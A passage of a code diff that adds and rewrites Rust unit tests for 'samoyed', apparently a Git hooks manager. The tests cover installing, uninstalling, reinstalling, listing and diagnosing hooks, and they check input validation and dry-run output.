+        match cli.command {
+            Some(Commands::Uninstall {
+                dirname,
+                purge,
+                force,
+            }) => {
+                assert_eq!(dirname, Some(".hooks".to_string()));
+                assert!(purge);
+                assert!(force);
+            }
+            _ => panic!("Expected Uninstall command"),
+        }
+    }
+
+    /// Test uninstall_samoyed reverses init but keeps user hooks
+    #[test]
+    fn test_uninstall_samoyed_full() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        init_samoyed(".samoyed", &InitOptions::default()).unwrap();
+        assert!(read_hooks_path(git_repo.path()).is_some());
+
+        let result = uninstall_samoyed(".samoyed", false, false);
+        assert!(result.is_ok());
+
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        assert!(!samoyed_dir.join("_").exists());
+        assert!(samoyed_dir.join("pre-commit").exists());
+        assert!(read_hooks_path(git_repo.path()).is_none());
+
+        // Running it again is a no-op
+        let result = uninstall_samoyed(".samoyed", false, false);
+        assert!(result.is_ok());
+
+        env::set_current_dir(original_dir).unwrap();
+    }
+
+    /// Test uninstall_samoyed with purge removes user hooks too
+    #[test]
+    fn test_uninstall_samoyed_purge() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        init_samoyed(".samoyed", &InitOptions::default()).unwrap();
+
+        let result = uninstall_samoyed(".samoyed", true, false);
+        assert!(result.is_ok());
+        assert!(!git_repo.path().join(".samoyed").exists());
+        assert!(read_hooks_path(git_repo.path()).is_none());
+
+        // Purging the repository root itself is refused
+        let result = uninstall_samoyed(".", true, false);
+        assert!(result.is_err());
+        assert!(git_repo.path().join(".git").exists());
+
+        env::set_current_dir(original_dir).unwrap();
+    }
+
+    /// Test uninstall_samoyed refuses a foreign core.hooksPath unless forced
+    #[test]
+    fn test_uninstall_samoyed_foreign_hooks_path() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        init_samoyed(".samoyed", &InitOptions::default()).unwrap();
+        StdCommand::new("git")
+            .args(["config", "core.hooksPath", ".husky/_"])
+            .current_dir(git_repo.path())
+            .status()
+            .unwrap();
+
+        let refused = uninstall_samoyed(".samoyed", true, false);
+        let kept = git_repo.path().join(".samoyed/_").is_dir();
+        let forced = uninstall_samoyed(".samoyed", false, true);
+
+        env::set_current_dir(original_dir).unwrap();
+
+        assert!(
+            refused
+                .as_ref()
+                .is_err_and(|e| e.starts_with(ERR_FOREIGN_HOOKS_PATH)),
+            "{refused:?}"
+        );
+        assert!(kept);
+        assert!(forced.is_ok(), "{forced:?}");
+        assert_eq!(
+            read_hooks_path(git_repo.path()),
+            Some(".husky/_".to_string())
+        );
+        assert!(!git_repo.path().join(".samoyed").join("_").exists());
+        assert!(git_repo.path().join(".samoyed/pre-commit").is_file());
+    }
+
+    /// Test reinstall refreshes generated scripts in place and keeps user choices
+    #[test]
+    fn test_reinstall_samoyed() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        let not_installed = reinstall_samoyed();
+        let options = InitOptions {
+            hooks: Some(vec!["pre-commit".to_string(), "pre-push".to_string()]),
+            shell: Some("bash".to_string()),
+            ..InitOptions::default()
+        };
+        init_samoyed("tools/hooks", &options).unwrap();
+        let samoyed_dir = git_repo.path().join("tools/hooks");
+        fs::write(
+            samoyed_dir.join("_/samoyed"),
+            "#!/usr/bin/env sh\n# old wrapper\n",
+        )
+        .unwrap();
+        fs::write(
+            samoyed_dir.join("pre-commit"),
+            "#!/usr/bin/env sh\ncargo test\n",
+        )
+        .unwrap();
+        unsafe {
+            env::set_var("SAMOYED", "0");
+        }
+        let bypassed = reinstall_samoyed();
+        let bypassed_wrapper = fs::read(samoyed_dir.join("_/samoyed")).unwrap();
+        unsafe {
+            env::remove_var("SAMOYED");
+        }
+        let reinstalled = reinstall_samoyed();
+
+        env::set_current_dir(original_dir).unwrap();
+
+        assert_eq!(not_installed, Err(ERR_NOT_INSTALLED.to_string()));
+        assert!(bypassed.is_ok(), "{bypassed:?}");
+        assert_eq!(bypassed_wrapper, b"#!/usr/bin/env sh\n# old wrapper\n");
+        assert!(reinstalled.is_ok(), "{reinstalled:?}");
+        assert_eq!(
+            fs::read(samoyed_dir.join("_/samoyed")).unwrap(),
+            wrapper_script()
+        );
+        assert_eq!(
+            fs::read_to_string(samoyed_dir.join("_/pre-push")).unwrap(),
+            hook_script("bash")
+        );
+        assert!(!samoyed_dir.join("_/commit-msg").exists());
+        assert!(
+            fs::read_to_string(samoyed_dir.join("pre-commit"))
+                .unwrap()
+                .contains("cargo test")
+        );
+        assert_eq!(
+            read_hooks_path(git_repo.path()),
+            Some("tools/hooks/_".to_string())
+        );
+    }
+
+    /// Test init --extra-hooks installs non-standard hooks and reinstall keeps them
+    #[test]
+    fn test_init_samoyed_extra_hooks() {
+        let cli = Cli::parse_from(["samoyed", "init", "--extra-hooks", "pre-receive,deploy"]);
+        match cli.command {
+            Some(Commands::Init { extra_hooks, .. }) => {
+                assert_eq!(extra_hooks, vec!["pre-receive", "deploy"]);
+            }
+            _ => panic!("Expected Init command"),
+        }
+        for name in ["", "../escape", "pre-commit", "samoyed", "disabled"] {
+            let result = select_extra_hooks(&[name.to_string()]);
+            assert!(
+                result.is_err_and(|e| e.starts_with(ERR_INVALID_EXTRA_HOOK)),
+                "{name:?} should be rejected"
+            );
+        }
+
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        let options = InitOptions {
+            hooks: Some(vec!["pre-commit".to_string()]),
+            extra_hooks: vec![
+                "pre-receive".to_string(),
+                "deploy".to_string(),
+                "deploy".to_string(),
+            ],
+            ..InitOptions::default()
+        };
+        let report = init_samoyed(".samoyed", &options);
+        fs::remove_file(git_repo.path().join(".samoyed/_/deploy")).unwrap();
+        fs::write(git_repo.path().join(".samoyed/_/notes"), "not a hook\n").unwrap();
+        let reinstalled = reinstall_samoyed();
+
+        env::set_current_dir(original_dir).unwrap();
+
+        let report = report.unwrap();
+        assert_eq!(report.hooks, vec!["pre-commit"]);
+        assert_eq!(report.extra_hooks, vec!["pre-receive", "deploy"]);
+        assert!(
+            report
+                .to_json()
+                .contains(r#""hooks": ["pre-commit", "pre-receive", "deploy"]"#)
+        );
+        assert!(reinstalled.is_ok(), "{reinstalled:?}");
+        let wrapper_dir = git_repo.path().join(".samoyed/_");
+        assert_eq!(
+            fs::read_to_string(wrapper_dir.join("pre-receive")).unwrap(),
+            HOOK_SCRIPT_TEMPLATE
+        );
+        assert!(is_executable(&wrapper_dir.join("pre-receive")));
+        assert!(!wrapper_dir.join("deploy").exists());
+        assert!(!wrapper_dir.join("pre-push").exists());
+        assert_eq!(
+            installed_extra_hooks(&wrapper_dir),
+            vec!["pre-receive".to_string()]
+        );
+    }
+
+    /// Test validate-dirname accepts names init accepts and writes nothing
+    #[test]
+    fn test_validate_dirname() {
+        let cli = Cli::parse_from(["samoyed", "validate-dirname", "tools/hooks"]);
+        match cli.command {
+            Some(Commands::ValidateDirname { dirname }) => assert_eq!(dirname, "tools/hooks"),
+            _ => panic!("Expected ValidateDirname command"),
+        }
+
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        let nested = validate_dirname("tools/hooks");
+        let outside = validate_dirname("../elsewhere");
+
+        env::set_current_dir(original_dir).unwrap();
+
+        assert!(nested.is_ok());
+        assert!(outside.unwrap_err().starts_with(ERR_OUTSIDE_GIT_REPO));
+        assert!(!git_repo.path().join("tools").exists());
+        assert!(read_hooks_path(git_repo.path()).is_none());
+    }
+
+    /// Test disable/enable create and remove the marker, and doctor reports it
+    #[test]
+    fn test_set_hooks_disabled() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        let before_init = set_hooks_disabled(".samoyed", true);
+        init_samoyed(".samoyed", &InitOptions::default()).unwrap();
+        let disabled = set_hooks_disabled(".samoyed", true);
+        let disabled_again = set_hooks_disabled(".samoyed", true);
+        let doctor_disabled = run_doctor_checks(".samoyed", DoctorOptions::default());
+        let marker = git_repo.path().join(".samoyed/_/disabled");
+        let marker_created = marker.is_file();
+        let enabled = set_hooks_disabled(".samoyed", false);
+        let enabled_again = set_hooks_disabled(".samoyed", false);
+        let doctor_enabled = run_doctor_checks(".samoyed", DoctorOptions::default());
+
+        env::set_current_dir(original_dir).unwrap();
+
+        assert_eq!(before_init, Err(ERR_NOT_INSTALLED.to_string()));
+        assert!(disabled.is_ok() && disabled_again.is_ok());
+        assert!(marker_created);
+        assert!(
+            doctor_disabled
+                .iter()
+                .any(|check| check.name == "hooks" && check.status == CheckStatus::Warn)
+        );
+        assert!(enabled.is_ok() && enabled_again.is_ok());
+        assert!(!marker.exists());
+        assert!(doctor_enabled.iter().all(|check| check.name != "hooks"));
+    }
+
+    /// Test every generated file is plain ASCII, so it renders the same in any terminal or CI log
+    #[test]
+    fn test_generated_files_are_ascii() {
+        let generated: Vec<(&str, Vec<u8>)> = vec![
+            ("wrapper", wrapper_script()),
+            ("hook stub", hook_script(DEFAULT_HOOK_SHELL).into_bytes()),
+            ("hook stub (bash)", hook_script("bash").into_bytes()),
+            (
+                "sample pre-commit",
+                with_shebang(SAMPLE_PRE_COMMIT_CONTENT, DEFAULT_HOOK_SHELL).into_bytes(),
+            ),
+            (".gitignore", GITIGNORE_CONTENT.as_bytes().to_vec()),
+            (
+                "disable marker",
+                DISABLED_MARKER_CONTENT.as_bytes().to_vec(),
+            ),
+        ];
+        for (name, content) in generated {
+            let text = String::from_utf8(content).unwrap();
+            assert!(
+                !text.contains('\u{FFFD}'),
+                "{name} has a replacement character"
+            );
+            assert!(text.is_ascii(), "{name} is not plain ASCII");
+        }
+    }
+
+    /// Test sha256_hex against known test vectors
+    #[test]
+    fn test_sha256_hex() {
+        assert_eq!(
+            sha256_hex(b""),
+            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+        );
+        assert_eq!(
+            sha256_hex(b"abc"),
+            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
+        );
+        // Two-block message exercising the padding boundary
+        assert_eq!(
+            sha256_hex(b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
+            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1"
+        );
+    }
+
+    /// Test json_string escaping
+    #[test]
+    fn test_json_string() {
+        assert_eq!(json_string("plain"), r#""plain""#);
+        assert_eq!(json_string(r#"a "b" c"#), r#""a \"b\" c""#);
+        assert_eq!(json_string(r"C:\repo"), r#""C:\\repo""#);
+        assert_eq!(json_string("line\nbreak\u{1}"), r#""line\nbreak\u0001""#);
+    }
+
+    /// Test parsing init --dry-run --format json
+    #[test]
+    fn test_cli_parsing_init_dry_run_json() {
+        let cli = Cli::parse_from(["samoyed", "init", "--dry-run", "--format", "json"]);
+        match cli.command {
+            Some(Commands::Init {
+                dirname,
+                dry_run,
+                format,
+                ..
+            }) => {
+                assert!(dirname.is_none());
+                assert!(dry_run);
+                assert_eq!(format, OutputFormat::Json);
+            }
+            _ => panic!("Expected Init command"),
+        }
+
+        assert!(Cli::try_parse_from(["samoyed", "init", "--format", "yaml"]).is_err());
+    }
+
+    /// Test init_samoyed dry-run JSON plan for a default install
+    #[test]
+    fn test_init_samoyed_dry_run_json_plan() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        let options = InitOptions {
+            dry_run: true,
+            ..InitOptions::default()
+        };
+        let actions = init_samoyed(".samoyed", &options).unwrap().actions;
+
+        // Nothing is touched in dry-run mode
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        assert!(!samoyed_dir.exists());
+        assert!(read_hooks_path(git_repo.path()).is_none());
+
+        let samoyed_dir = canonicalize_allowing_nonexistent(&samoyed_dir).unwrap();
+        let wrapper_dir = samoyed_dir.join("_");
+        let path_json = |path: &Path| json_string(&path.to_string_lossy());
+
+        let mut expected = vec![
+            format!(
+                r#"  {{"action": "create_dir", "path": {}}}"#,
+                path_json(&samoyed_dir)
+            ),
+            format!(
+                r#"  {{"action": "create_dir", "path": {}}}"#,
+                path_json(&wrapper_dir)
+            ),
+            format!(
+                r#"  {{"action": "write_file", "path": {}, "mode": "0644", "sha256": "{}"}}"#,
+                path_json(&wrapper_dir.join("samoyed")),
+                sha256_hex(&wrapper_script())
+            ),
+        ];
+        for hook_name in GIT_HOOKS {
+            expected.push(format!(
+                r#"  {{"action": "write_file", "path": {}, "mode": "0755", "sha256": "{}"}}"#,
+                path_json(&wrapper_dir.join(hook_name)),
+                sha256_hex(HOOK_SCRIPT_TEMPLATE.as_bytes())
+            ));
+        }
+        expected.push(format!(
+            r#"  {{"action": "write_file", "path": {}, "mode": "0644", "sha256": "{}"}}"#,
+            path_json(&samoyed_dir.join("pre-commit")),
+            sha256_hex(SAMPLE_PRE_COMMIT_CONTENT.as_bytes())
+        ));
+        expected.push(
+            r#"  {"action": "git_config", "key": "core.hooksPath", "value": ".samoyed/_"}"#
+                .to_string(),
+        );
+        expected.push(format!(
+            r#"  {{"action": "write_file", "path": {}, "mode": null, "sha256": "{}"}}"#,
+            path_json(&wrapper_dir.join(".gitignore")),
+            sha256_hex(GITIGNORE_CONTENT.as_bytes())
+        ));
+
+        assert_eq!(
+            render_init_plan(&actions, OutputFormat::Json),
+            format!("[\n{}\n]", expected.join(",\n"))
+        );
+
+        env::set_current_dir(original_dir).unwrap();
+    }
+
+    /// Test human-readable rendering of an init plan
+    #[test]
+    fn test_render_init_plan_human() {
+        let actions = vec![
+            InitAction::CreateDir {
+                path: PathBuf::from("repo/.samoyed"),
+            },
+            InitAction::write_file(
+                PathBuf::from("repo/.samoyed/_/pre-commit"),
+                Some(0o755),
+                b"",
+            ),
+            InitAction::GitConfig {
+                key: HOOKS_PATH_CONFIG_KEY,
+                value: ".samoyed/_".to_string(),
+            },
+        ];
+
+        let rendered = render_init_plan(&actions, OutputFormat::Human);
+        let lines: Vec<&str> = rendered.lines().collect();
+        assert_eq!(lines.len(), 3);
+        assert!(lines[0].starts_with("Would create directory"));
+        assert!(lines[1].ends_with("(mode 0755)"));
+        assert_eq!(lines[2], "Would run: git config core.hooksPath .samoyed/_");
+
+        assert_eq!(render_init_plan(&[], OutputFormat::Json), "[]");
+    }
+
+    /// Test parsing the list command
+    #[test]
+    fn test_cli_parsing_list() {
+        let cli = Cli::parse_from(["samoyed", "list", "--json"]);
+        match cli.command {
+            Some(Commands::List { dirname, json, .. }) => {
+                assert!(dirname.is_none());
+                assert!(json);
+            }
+            _ => panic!("Expected List command"),
+        }
+
+        let cli = Cli::parse_from(["samoyed", "list", "--format", "markdown"]);
+        match cli.command {
+            Some(Commands::List { format, json, .. }) => {
+                assert_eq!(format, ListFormat::Markdown);
+                assert!(!json);
+            }
+            _ => panic!("Expected List command"),
+        }
+
+        assert!(Cli::try_parse_from(["samoyed", "list", "--json", "--format", "table"]).is_err());
+    }
+
+    /// Test list_hooks reports scripts and unconfigured hooks
+    #[test]
+    fn test_list_hooks() {
+        let temp_dir = TempDir::new().unwrap();
+        let samoyed_dir = temp_dir.path().join(".samoyed");
+        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+        fs::write(
+            samoyed_dir.join("_").join("pre-commit"),
+            HOOK_SCRIPT_TEMPLATE,
+        )
+        .unwrap();
+        fs::write(
+            samoyed_dir.join("pre-commit"),
+            "#!/usr/bin/env sh\n\ncargo fmt --check\n",
+        )
+        .unwrap();
+        fs::write(samoyed_dir.join("commit-msg"), "#!/usr/bin/env sh\n").unwrap();
+
+        let listings = list_hooks(&samoyed_dir);
+        assert_eq!(listings.len(), GIT_HOOKS.len());
+
+        let pre_commit = listings.iter().find(|l| l.name == "pre-commit").unwrap();
+        assert_eq!(pre_commit.source, HookSource::Script);
+        assert_eq!(pre_commit.preview.as_deref(), Some("cargo fmt --check"));
+        assert!(pre_commit.enabled);
+
+        let commit_msg = listings.iter().find(|l| l.name == "commit-msg").unwrap();
+        assert_eq!(commit_msg.source, HookSource::Script);
+        assert_eq!(commit_msg.preview, None);
+        assert!(!commit_msg.enabled);
+
+        let pre_push = listings.iter().find(|l| l.name == "pre-push").unwrap();
+        assert_eq!(pre_push.source, HookSource::Unconfigured);
+        assert_eq!(pre_push.preview, None);
+    }
+
+    /// Test script_preview truncates long lines
+    #[test]
+    fn test_script_preview_truncates() {
+        let temp_dir = TempDir::new().unwrap();
+        let script = temp_dir.path().join("pre-commit");
+        fs::write(&script, format!("#!/bin/sh\necho {}\n", "x".repeat(100))).unwrap();
+
+        let preview = script_preview(&script).unwrap();
+        assert_eq!(preview.chars().count(), PREVIEW_MAX_CHARS);
+        assert!(preview.ends_with("..."));
+    }
+
+    /// Test render_hook_listings table and JSON output
+    #[test]
+    fn test_render_hook_listings() {
+        let listings = vec![
+            HookListing {
+                name: "pre-commit",
+                source: HookSource::Script,
+                preview: Some("cargo test".to_string()),
+                enabled: true,
+            },
+            HookListing {
+                name: "pre-push",
+                source: HookSource::Unconfigured,
+                preview: None,
+                enabled: false,
+            },
+        ];
+
+        let table = render_hook_listings(&listings, ListFormat::Table);
+        let lines: Vec<&str> = table.lines().collect();
+        assert_eq!(lines.len(), 3);
+        assert!(lines[0].starts_with("HOOK"));
+        assert!(lines[1].starts_with("pre-commit"));
+        assert!(lines[1].contains("script"));
+        assert!(lines[1].ends_with("cargo test"));
+        assert!(lines[2].ends_with("unconfigured"));
+
+        let json = render_hook_listings(&listings, ListFormat::Json);
+        assert_eq!(
+            json,
+            concat!(
+                "[\n",
+                r#"  {"hook": "pre-commit", "source": "script", "preview": "cargo test", "enabled": true},"#,
+                "\n",
+                r#"  {"hook": "pre-push", "source": "unconfigured", "preview": null, "enabled": false}"#,
+                "\n]"
+            )
+        );
+
+        let markdown = render_hook_listings(&listings, ListFormat::Markdown);
+        let lines: Vec<&str> = markdown.lines().collect();
+        assert_eq!(lines.len(), 4);
+        assert_eq!(lines[0], "| Hook | Source | Description | Enabled |");
+        assert_eq!(lines[1], "| --- | --- | --- | --- |");
+        assert_eq!(
+            lines[2],
+            format!(
+                "| `pre-commit` | script | {} | yes |",
+                hook_description("pre-commit")
+            )
+        );
+        assert!(lines[3].starts_with("| `pre-push` | unconfigured | "));
+        assert!(lines[3].ends_with(" | no |"));
+        assert!(
+            GIT_HOOKS
+                .iter()
+                .all(|hook_name| !hook_description(hook_name).is_empty())
+        );
+    }
+
+    /// Test find_native_hooks only reports executable, non-sample hooks
+    #[test]
+    fn test_find_native_hooks() {
+        let temp_dir = TempDir::new().unwrap();
+        let hooks_dir = temp_dir.path().join("hooks");
+
+        // A missing hooks directory has no hooks
+        assert!(find_native_hooks(&hooks_dir).unwrap().is_empty());
+
+        fs::create_dir_all(&hooks_dir).unwrap();
+        fs::write(hooks_dir.join("pre-commit.sample"), "#!/bin/sh\n").unwrap();
+        fs::write(hooks_dir.join("pre-push"), "#!/bin/sh\nexit 1\n").unwrap();
+        fs::write(hooks_dir.join("commit-msg"), "#!/bin/sh\n").unwrap();
+
+        #[cfg(unix)]
+        {
+            for name in ["pre-commit.sample", "pre-push"] {
+                let path = hooks_dir.join(name);
+                let mut permissions = fs::metadata(&path).unwrap().permissions();
+                permissions.set_mode(0o755);
+                fs::set_permissions(&path, permissions).unwrap();
+            }
+            let mut permissions = fs::metadata(hooks_dir.join("commit-msg"))
+                .unwrap()
+                .permissions();
+            permissions.set_mode(0o644);
+            fs::set_permissions(hooks_dir.join("commit-msg"), permissions).unwrap();
+
+            assert_eq!(
+                find_native_hooks(&hooks_dir).unwrap(),
+                vec![hooks_dir.join("pre-push")]
+            );
+        }
+
+        #[cfg(not(unix))]
+        assert_eq!(
+            find_native_hooks(&hooks_dir).unwrap(),
+            vec![hooks_dir.join("commit-msg"), hooks_dir.join("pre-push")]
+        );
+    }
 
-        // Test when SAMOYED=0
-        unsafe {
-            env::set_var("SAMOYED", "0");
-        }
-        assert!(check_bypass_mode());
+    /// Helper function to install an executable native hook in a test repository
+    fn create_native_hook(repo: &Path, name: &str, content: &str) -> PathBuf {
+        let hook_path = repo.join(".git").join("hooks").join(name);
+        fs::create_dir_all(hook_path.parent().unwrap()).unwrap();
+        fs::write(&hook_path, content).unwrap();
 
-        // Test when SAMOYED=1
-        unsafe {
-            env::set_var("SAMOYED", "1");
+        #[cfg(unix)]
+        {
+            let mut permissions = fs::metadata(&hook_path).unwrap().permissions();
+            permissions.set_mode(0o755);
+            fs::set_permissions(&hook_path, permissions).unwrap();
         }
-        assert!(!check_bypass_mode());
 
-        // Test when SAMOYED=2
-        unsafe {
-            env::set_var("SAMOYED", "2");
-        }
-        assert!(!check_bypass_mode());
+        hook_path
+    }
 
-        // Clean up
-        unsafe {
-            env::remove_var("SAMOYED");
-        }
+    /// Test init_samoyed backs up pre-existing native hooks
+    #[test]
+    fn test_init_samoyed_backs_up_native_hooks() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        let content = "#!/bin/sh\necho legacy\n";
+        create_native_hook(git_repo.path(), "pre-push", content);
+
+        let report = init_samoyed(".samoyed", &InitOptions::default()).unwrap();
+        assert!(
+            report
+                .render(OutputFormat::Human)
+                .is_some_and(|output| output.starts_with(MSG_BACKED_UP_HOOKS))
+        );
+        let actions = report.actions;
+
+        let backup_path = git_repo.path().join(".samoyed/backup/pre-push");
+        assert_eq!(fs::read_to_string(&backup_path).unwrap(), content);
+        assert!(
+            !git_repo
+                .path()
+                .join(".samoyed/backup/pre-commit.sample")
+                .exists()
+        );
+        assert!(actions.iter().any(|action| matches!(
+            action,
+            InitAction::WriteFile { path, .. } if path.ends_with("backup/pre-push")
+        )));
+
+        // Re-running init does not back up the same hook again
+        let actions = init_samoyed(".samoyed", &InitOptions::default())
+            .unwrap()
+            .actions;
+        assert!(!actions.iter().any(|action| matches!(
+            action,
+            InitAction::WriteFile { path, .. } if path.ends_with("backup/pre-push")
+        )));
+
+        env::set_current_dir(original_dir).unwrap();
     }
 
-    /// Test validate_samoyed_dir function with valid paths
+    /// Test init_samoyed skips backups with no_backup
     #[test]
-    fn test_validate_samoyed_dir_valid() {
-        let temp_dir = TempDir::new().unwrap();
-        let git_root = temp_dir.path();
+    fn test_init_samoyed_no_backup() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        // Test with simple directory name
-        let result = validate_samoyed_dir(git_root, git_root, ".samoyed");
-        assert!(result.is_ok());
-        let path = result.unwrap();
-        let expected = canonicalize_allowing_nonexistent(&git_root.join(".samoyed"))
-            .expect("failed to canonicalize expected path");
-        assert_eq!(path, expected);
+        create_native_hook(git_repo.path(), "pre-push", "#!/bin/sh\n");
 
-        // Test with nested directory
-        let result = validate_samoyed_dir(git_root, git_root, "hooks/samoyed");
-        assert!(result.is_ok());
+        let options = InitOptions {
+            no_backup: true,
+            ..InitOptions::default()
+        };
+        init_samoyed(".samoyed", &options).unwrap();
+        assert!(!git_repo.path().join(".samoyed/backup").exists());
+
+        env::set_current_dir(original_dir).unwrap();
     }
 
-    /// Test validate_samoyed_dir function with invalid paths
+    /// Test init_samoyed leaves out the sample pre-commit with no_samples
     #[test]
-    fn test_validate_samoyed_dir_invalid() {
-        let temp_dir = TempDir::new().unwrap();
-        let git_root = temp_dir.path();
+    fn test_init_samoyed_no_samples() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        // Test with path outside git root
-        let result = validate_samoyed_dir(git_root, git_root, "..");
-        assert!(result.is_err());
+        let mut options = InitOptions {
+            no_samples: true,
+            ..InitOptions::default()
+        };
+        let first = init_samoyed(".samoyed", &options);
+        options.quiet_if_installed = true;
+        let second = init_samoyed(".samoyed", &options);
 
-        // Test with absolute path outside git root
-        let result = validate_samoyed_dir(git_root, git_root, "/tmp/outside");
-        assert!(result.is_err());
+        env::set_current_dir(original_dir).unwrap();
+
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        assert!(first.is_ok());
+        assert!(!samoyed_dir.join("pre-commit").exists());
+        assert!(samoyed_dir.join("_/pre-commit").is_file());
+        // A minimal install is already current, so nothing is rewritten
+        assert!(second.unwrap().actions.is_empty());
     }
 
-    /// Test create_directory_structure function
+    /// Test parsing the doctor command
     #[test]
-    fn test_create_directory_structure() {
+    fn test_cli_parsing_doctor() {
+        let cli = Cli::parse_from(["samoyed", "doctor", ".hooks"]);
+        match cli.command {
+            Some(Commands::Doctor { dirname, .. }) => {
+                assert_eq!(dirname, Some(".hooks".to_string()));
+            }
+            _ => panic!("Expected Doctor command"),
+        }
+
+        let cli = Cli::parse_from(["samoyed", "doctor", "--verify"]);
+        match cli.command {
+            Some(Commands::Doctor { verify, .. }) => assert!(verify),
+            _ => panic!("Expected Doctor command"),
+        }
+    }
+
+    /// Test check_hooks_path for unset, matching and foreign values
+    #[test]
+    fn test_check_hooks_path() {
         let temp_dir = TempDir::new().unwrap();
-        let samoyed_dir = temp_dir.path().join(".samoyed");
+        let git_root = temp_dir.path().canonicalize().unwrap();
+        let samoyed_dir = git_root.join(".samoyed");
 
-        let result = create_directory_structure(&samoyed_dir);
-        assert!(result.is_ok());
+        let check = check_hooks_path(&git_root, &samoyed_dir, None);
+        assert_eq!(check.status, CheckStatus::Fail);
+        assert!(check.hint.is_some());
 
-        // Check that directories were created
-        assert!(samoyed_dir.exists());
-        assert!(samoyed_dir.join("_").exists());
+        let check = check_hooks_path(&git_root, &samoyed_dir, Some(".samoyed/_"));
+        assert_eq!(check.status, CheckStatus::Ok);
 
-        // Test idempotency - should work even if directories exist
-        let result = create_directory_structure(&samoyed_dir);
-        assert!(result.is_ok());
+        let check = check_hooks_path(&git_root, &samoyed_dir, Some(".husky/_"));
+        assert_eq!(check.status, CheckStatus::Fail);
+        assert!(check.detail.contains(".husky/_"));
+
+        // A value written relative to a subdirectory resolves from the root
+        let check = check_hooks_path(&git_root, &samoyed_dir, Some("../.samoyed/_"));
+        assert_eq!(check.status, CheckStatus::Fail);
+        let resolved = git_root.join("../.samoyed/_");
+        assert!(
+            check.detail.contains(&format!(
+                "resolves to {}, which does not exist",
+                resolved.display()
+            )),
+            "{}",
+            check.detail
+        );
+
+        // An existing directory without the wrapper is called out as well
+        fs::create_dir_all(git_root.join(".githooks")).unwrap();
+        let check = check_hooks_path(&git_root, &samoyed_dir, Some(".githooks"));
+        assert!(check.detail.contains("contains no Samoyed wrapper"));
     }
 
-    /// Test copy_wrapper_script function
+    /// Test check_hook_stubs detects missing and non-executable stubs
     #[test]
-    fn test_copy_wrapper_script() {
+    fn test_check_hook_stubs() {
         let temp_dir = TempDir::new().unwrap();
         let samoyed_dir = temp_dir.path().join(".samoyed");
         fs::create_dir_all(samoyed_dir.join("_")).unwrap();
 
-        let result = copy_wrapper_script(&samoyed_dir);
-        assert!(result.is_ok());
-
-        let wrapper_path = samoyed_dir.join("_").join("samoyed");
-        assert!(wrapper_path.exists());
+        assert_eq!(check_hook_stubs(&samoyed_dir).status, CheckStatus::Fail);
 
-        let contents = fs::read(&wrapper_path).unwrap();
-        assert_eq!(contents, SAMOYED_WRAPPER_SCRIPT);
+        create_hook_scripts(&samoyed_dir, GIT_HOOKS, DEFAULT_HOOK_SHELL, false).unwrap();
+        assert_eq!(check_hook_stubs(&samoyed_dir).status, CheckStatus::Ok);
 
-        // Check permissions on Unix
         #[cfg(unix)]
         {
-            let metadata = fs::metadata(&wrapper_path).unwrap();
-            let mode = metadata.permissions().mode();
-            assert_eq!(mode & 0o777, 0o644);
+            let hook_path = samoyed_dir.join("_").join("pre-push");
+            let mut permissions = fs::metadata(&hook_path).unwrap().permissions();
+            permissions.set_mode(0o644);
+            fs::set_permissions(&hook_path, permissions).unwrap();
+
+            let check = check_hook_stubs(&samoyed_dir);
+            assert_eq!(check.status, CheckStatus::Fail);
+            assert!(check.detail.contains("not executable: pre-push"));
         }
     }
 
-    /// Test create_hook_scripts function
+    /// Test check_line_endings detects CRLF in generated scripts
     #[test]
-    fn test_create_hook_scripts() {
+    fn test_check_line_endings() {
         let temp_dir = TempDir::new().unwrap();
         let samoyed_dir = temp_dir.path().join(".samoyed");
         fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+        create_hook_scripts(&samoyed_dir, GIT_HOOKS, DEFAULT_HOOK_SHELL, false).unwrap();
+
+        assert_eq!(check_line_endings(&samoyed_dir).status, CheckStatus::Ok);
+
+        fs::write(
+            samoyed_dir.join("_").join("pre-commit"),
+            "#!/usr/bin/env sh\r\n",
+        )
+        .unwrap();
+        let check = check_line_endings(&samoyed_dir);
+        assert_eq!(check.status, CheckStatus::Fail);
+        assert!(check.detail.contains("pre-commit"));
+    }
 
-        let result = create_hook_scripts(&samoyed_dir);
-        assert!(result.is_ok());
+    /// Test the wrapper version stamp is written, read back and checked by doctor
+    #[test]
+    fn test_wrapper_version() {
+        let script = String::from_utf8(wrapper_script()).unwrap();
+        assert!(script.starts_with("#!/usr/bin/env sh\n# samoyed-wrapper-version: "));
 
-        // Check that all hook scripts were created
-        for hook_name in GIT_HOOKS {
-            let hook_path = samoyed_dir.join("_").join(hook_name);
-            assert!(hook_path.exists(), "Hook {} should exist", hook_name);
+        let temp_dir = TempDir::new().unwrap();
